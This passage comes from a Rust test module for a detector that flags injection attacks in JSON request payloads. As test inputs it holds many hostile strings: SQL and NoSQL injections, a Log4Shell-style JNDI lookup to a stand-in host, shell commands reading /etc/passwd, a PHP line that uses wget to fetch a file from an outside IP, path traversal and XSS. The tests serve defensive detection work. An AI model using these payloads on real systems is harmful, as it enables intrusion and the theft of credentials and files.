            assert_eq!(Class::from_name(class.name()), Some(class));
            assert!(RULES.iter().any(|(c, _, _)| *c == class));
        }
    }

    #[test]
    fn payload_fields_are_named_and_snippets_decoded() {
        let hits = InjectionMatcher::new()
            .scan_payload(r#"{"queryStringParameters":{"id":"1%27%20UNION%20SELECT%20password%20FROM%20users--"}}"#);
        assert_eq!(hits[0].class, Class::Sql);
        assert_eq!(hits[0].field, "queryStringParameters.id");
        assert!(hits[0].snippet.contains("union select password"), "{hits:?}");
    }

    #[test]
    fn bodies_that_are_json_strings_and_operator_keys_are_opened() {
        assert_eq!(classes(r#"{"body":"{\"user\":\"admin\",\"password\":{\"$ne\":null}}"}"#), vec![Class::NoSql]);
        assert_eq!(classes(r#"{"headers":{"User-Agent":"${${lower:j}ndi:ldap://x.example/a}"}}"#), vec![Class::Jndi]);
    }

    #[test]
    fn hostile_payloads_are_bounded_and_never_panic() {
        let matcher = InjectionMatcher::new();
        // Nested deeper than the JSON parser allows: matched as text.
        let deep = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
        assert!(matcher.scan_payload(&deep).is_empty());
        // Truncated JSON with an attack inside is still text with an attack.
        assert_eq!(classes(r#"{"q":"' UNION SELECT password FROM users--"#), vec![Class::Sql]);
        // Oversized: an attack past the matched prefix of one huge string is not searched for ever.
        let huge = format!("{}{}", "a".repeat(4 * decode::TEXT_BYTES_MAX), "' or 1=1--");
        assert!(matcher.scan_payload(&huge).is_empty());
        // Many strings: the budget bounds the work.
        let many = serde_json::to_string(&vec!["x".repeat(10); 100_000]).unwrap();
        assert!(matcher.scan_payload(&many).is_empty());
        for text in ["", "\u{0}", "%%%%", "${${${${", "<!--", "\u{feff}\u{202e}' or '1'='1"] {
            let _ = matcher.scan_payload(text);
        }
    }

    /// The misses and the false positive named in issue 22, each in the query string of an event.
    #[test]
    fn the_payloads_issue_22_named_are_found_and_its_prose_is_not() {
        let in_query = |value: &str| {
            let event = serde_json::json!({"queryStringParameters": {"q": value}});
            InjectionMatcher::new().scan_payload(&event.to_string()).into_iter().map(|h| h.class).collect::<Vec<_>>()
        };
        for (value, class) in [
            (r#"${self.module.cache.compat.inspect.linecache.os.system("id")}"#, Class::Template),
            ("||/usr/bin/id;", Class::Command),
            ("|/bin/ls -al", Class::Command),
            (r#"<?php system("wget http://203.0.113.9/x.txt -O x.php");?>"#, Class::Command),
            ("system('cat config.php');", Class::Command),
            (r#"{"$gt": ""}"#, Class::NoSql),
            ("{ $ne: 1 }", Class::NoSql),
            ("' OR x=x-- ", Class::Sql),
            ("' OR 1=0#", Class::Sql),
            ("' ORDER BY 26 ", Class::Sql),
            ("..%c0%2f..%c0%2f..%c0%2fetc/passwd", Class::PathTraversal),
            ("%uff0e%uff0e%u2216%uff0e%uff0e%u2216windows%u2216win.ini", Class::PathTraversal),
            ("<svg/onload=alert(1)>", Class::Xss),
        ] {
            assert!(in_query(value).contains(&class), "{value}: {:?}", in_query(value));
        }
        assert!(in_query("splittag('/path#tag') --> '/path', 'tag'.").is_empty());
    }

    #[test]
    fn remembered_hits_are_the_scan_s_own_for_every_field_and_earlier_hit() {
        let matcher = InjectionMatcher::new();
        let texts = [
            "' UNION SELECT password FROM users--",
            "1' or sleep(5)#<script>alert(1)</script>",
            "${jndi:ldap://x.example/a} ; cat /etc/passwd",
            "api.example.com",
            "python-requests/2.32.3",
        ];
        let earlier = [
            vec![],
            vec![Hit { class: Class::Sql, rule: "sql.union_select", field: "q".into(), snippet: String::new() }],
            vec![Hit { class: Class::Xss, rule: "xss.markup", field: "q".into(), snippet: String::new() }],
        ];
        // Twice: the first scan of a text is remembered, the second is served from memory.
        for _ in 0..2 {
            for text in texts {
                for (field, before) in ["body.q", "headers.User-Agent"].iter().zip(earlier.iter().cycle()) {
                    let (mut scanned, mut remembered) = (before.clone(), before.clone());
                    matcher.scan_forms(field, text, &mut scanned);
                    matcher.scan_text(field, text, &mut remembered);
                    assert_eq!(remembered, scanned, "{text} in {field} after {before:?}");
                }
            }
        }
        assert!(SCANNED.with(|s| s.borrow().contains_key("' UNION SELECT password FROM users--")));
        // The memory is bounded: it is forgotten once full.
        for i in 0..REMEMBERED_TEXTS_MAX + 10 {
            matcher.scan_text("f", &format!("text {i}"), &mut Vec::new());
        }
        assert!(SCANNED.with(|s| s.borrow().len()) <= REMEMBERED_TEXTS_MAX);
    }

    #[test]
    fn ordinary_text_is_not_an_attack() {
        for text in [
            r#"{"name":"Conor O'Brien","note":"Please select the items from the table where you left them"}"#,
            r#"{"comment":"Tom & Jerry -- the union of cats and mice; or so they say"}"#,
            r#"{"template":"Hello {{first_name}}, your order {{order_id}} ships today"}"#,
            r#"{"url":"https://example.com/search?q=rock+%26+roll&page=2"}"#,
        ] {
            assert!(classes(text).is_empty(), "{text}: {:?}", InjectionMatcher::new().scan_payload(text));
        }
    }
}
